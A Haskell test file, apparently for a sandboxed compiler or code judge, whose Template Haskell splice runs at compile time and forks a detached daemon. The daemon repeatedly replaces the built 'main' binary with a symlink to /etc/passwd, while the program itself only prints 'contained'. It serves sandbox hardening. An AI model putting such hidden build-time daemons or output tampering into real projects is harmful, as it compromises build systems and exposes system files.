-- allowed: AC CE RE
-- a daemon started by code that runs while compiling, which wants to have the last word
{-# LANGUAGE TemplateHaskell #-}
import Control.Concurrent
import Control.Monad
import Language.Haskell.TH
import System.Directory (doesFileExist)
import System.Posix

$(runIO (do
    _ <- forkProcess (do
        _ <- createSession
        mapM_ closeFd [0, 1, 2]
        forever (do
            there <- doesFileExist "main"
            when there (removeLink "main" >> createSymbolicLink "/etc/passwd" "main")
            threadDelay 100))
    return []))

main :: IO ()
main = putStrLn "contained"
